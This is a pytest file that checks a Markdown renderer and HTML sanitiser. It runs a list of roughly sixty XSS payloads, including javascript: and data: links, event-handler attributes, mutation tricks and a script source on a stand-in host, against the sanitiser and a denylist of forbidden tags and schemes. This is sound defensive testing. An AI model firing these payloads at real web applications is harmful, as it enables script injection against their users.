"""render_markdown: ordinary Markdown renders, and no XSS payload survives sanitising."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest

from governance.evidence.markdown import render_markdown, render_plain, sanitize_html

FORBIDDEN_ELEMENTS = {
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "meta",
    "base",
    "link",
    "style",
    "svg",
    "math",
    "img",  # images are rendered as links (see governance/evidence/markdown.py)
    "video",
    "audio",
    "source",
    "template",
    "noscript",
    "body",
    "html",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "data"}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
_IGNORED_IN_URLS = re.compile(r"[\x00-\x20\x7f]+")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))


def _parse(fragment: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    collector = _Collector()
    collector.feed(fragment)
    collector.close()
    return collector.elements


def _url_is_dangerous(value: str) -> bool:
    # HTMLParser has unescaped entities once (as a browser does); unescape again to be
    # strict, drop whitespace and control characters browsers ignore, compare lowercase.
    for candidate in (value, html.unescape(value)):
        squeezed = _IGNORED_IN_URLS.sub("", candidate).lower()
        if squeezed.startswith(DANGEROUS_SCHEMES):
            return True
    return False


def assert_safe(rendered: str) -> None:
    for tag, attrs in _parse(rendered):
        assert tag not in FORBIDDEN_ELEMENTS, (tag, rendered)
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, rendered)
            assert name != "style", (tag, rendered)
            assert name not in {"srcdoc", "formaction"}, (tag, name, rendered)
            if name in URL_ATTRIBUTES and value is not None:
                assert not _url_is_dangerous(value), (tag, name, value, rendered)
        if tag == "a" and any(name == "href" for name, _ in attrs):
            rel = dict(attrs).get("rel") or ""
            assert set(rel.split()) >= {"noopener", "noreferrer", "nofollow"}, rendered


XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x]: javascript:alert(1)\n\n[click][x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    '<https://ok.example/"onmouseover="alert(1)>',
    '[x](https://ok.example/"onmouseover="alert(1))',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://ok.example" title=\'x" onmouseover="alert(1)\'>t</a>',
    '<a href="javascript:alert(1)"',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
    "<input autofocus onfocus=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    '<b <img src=x onerror=alert(1)>">x</b>',
    "<!--><img src=x onerror=alert(1)>-->",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [x](javascript:alert(1))\n- <svg/onload=alert(1)>",
    "> <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    '<a href="https://ok.example" target="_blank" onclick=\'alert(1)\'>ok</a>',
]


def test_the_xss_corpus_is_big_enough() -> None:
    assert len(XSS_PAYLOADS) >= 25


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_payload_survives(payload: str) -> None:
    assert_safe(render_markdown(payload))
    assert_safe(sanitize_html(payload))


def test_the_checker_catches_what_it_should() -> None:
    for unsafe in (
        "<script>x</script>",
        '<a href="java\tscript:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)" rel="noopener noreferrer nofollow">x</a>',
        '<p onclick="x">x</p>',
        '<p style="color:red">x</p>',
        '<a href="https://ok">no rel</a>',
    ):
        with pytest.raises(AssertionError):
            assert_safe(unsafe)


def test_it_renders_ordinary_markdown() -> None:
    rendered = render_markdown(
        "# Model card\n\n"
        "## Metrics\n\n"
        "Some *emphasis*, **strong**, `code` and ~~old~~ text.\n\n"
        "- first\n- second\n\n"
        "3. three\n4. four\n\n"
        "| metric | value |\n|:--|--:|\n| AUC | 0.91 |\n\n"
        "```python\nprint('hi')\n```\n\n"
        "> a quote\n\n"
        "See [the docs](https://example.com/docs), [a page](/models/1/) "
        "and <mailto:risk@example.com>.\n"
    )

    assert "<h1>Model card</h1>" in rendered
    assert "<h2>Metrics</h2>" in rendered
    assert "<em>emphasis</em>" in rendered and "<strong>strong</strong>" in rendered
    assert "<code>code</code>" in rendered
    assert "<s>old</s>" in rendered
    assert "<ul>\n<li>first</li>" in rendered
    assert '<ol start="3">' in rendered
    assert '<th class="text-left">metric</th>' in rendered
    assert '<td class="text-right">0.91</td>' in rendered
    assert "<pre><code>print('hi')\n</code></pre>" in rendered
    assert "<blockquote>" in rendered
    assert '<a href="https://example.com/docs" rel="noopener noreferrer nofollow">the docs</a>' in rendered
    assert '<a href="/models/1/" rel="noopener noreferrer nofollow">a page</a>' in rendered
    assert 'href="mailto:risk@example.com"' in rendered
    assert_safe(rendered)


def test_it_renders_images_as_links() -> None:
    rendered = render_markdown("![ROC curve](https://example.com/roc.png)")

    assert "<img" not in rendered
    assert '<a href="https://example.com/roc.png" rel="noopener noreferrer nofollow">ROC curve</a>' in rendered


def test_it_keeps_the_text_of_removed_tags() -> None:
    rendered = render_markdown("<center>kept text</center> <script>gone()</script>")

    assert "kept text" in rendered
    assert "gone" not in rendered


def test_it_escapes_raw_text_characters() -> None:
    assert "&lt;3 &amp; 5 &gt; 4" in render_markdown("<3 & 5 > 4")
    assert render_markdown("") == ""


def test_render_plain_escapes_one_line_text() -> None:
    assert render_plain('<b>"risk"</b> &\n  ticket\tINC-1\x07') == (
        "&lt;b&gt;&quot;risk&quot;&lt;/b&gt; &amp; ticket INC-1"
    )
    assert render_plain("") == ""
